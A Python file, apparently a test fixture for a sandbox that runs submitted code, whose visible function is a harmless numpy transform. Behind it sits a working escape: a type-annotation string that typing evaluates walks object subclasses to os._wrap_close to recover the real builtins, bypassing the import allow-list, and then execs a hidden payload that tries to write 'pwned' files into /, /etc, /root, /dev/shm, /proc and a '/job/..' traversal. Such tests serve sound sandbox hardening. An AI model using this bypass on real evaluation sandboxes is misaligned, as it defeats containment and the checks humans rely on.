"""Write outside /tmp inside the sandbox's own root: /, /etc, /home, /root,
/var/tmp, /dev/shm. These live in bubblewrap's private root tmpfs, not on the
host, but they are not under the /tmp size cap: only /tmp should be writable."""
import typing


def _real_builtins(hint: "lambda: [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['__builtins__']"):
    """The import allow-list is a policy, not the boundary: typing evaluates this
    annotation string, which the source check never parses, and it reaches the
    real builtins through os._wrap_close. The payload below then runs with them."""


_BUILTINS = typing.get_type_hints(_real_builtins)["hint"]()
PAYLOAD = r'''
import numpy as np


def _probe():
    import os
    found = []
    for directory in ("/", "/etc", "/home", "/root", "/var/tmp", "/dev/shm", "/proc", "/job/.."):
        path = os.path.join(directory, "pwned")
        try:
            with open(path, "wb") as handle:
                handle.write(b"x")
            found.append(f"wrote {path}")
        except OSError:
            pass
    return found


_FINDINGS = _probe()


def transform(x):
    return np.sqrt(x * x + 1.0) * 2.0 - x
'''
_namespace = {"__builtins__": _BUILTINS, "__name__": "payload"}
_BUILTINS["exec"](PAYLOAD, _namespace)
transform = _namespace["transform"]
_FINDINGS = _namespace.get("_FINDINGS")  # for the sandbox-layer tests, which run this file directly
_written = _namespace.get("_written")
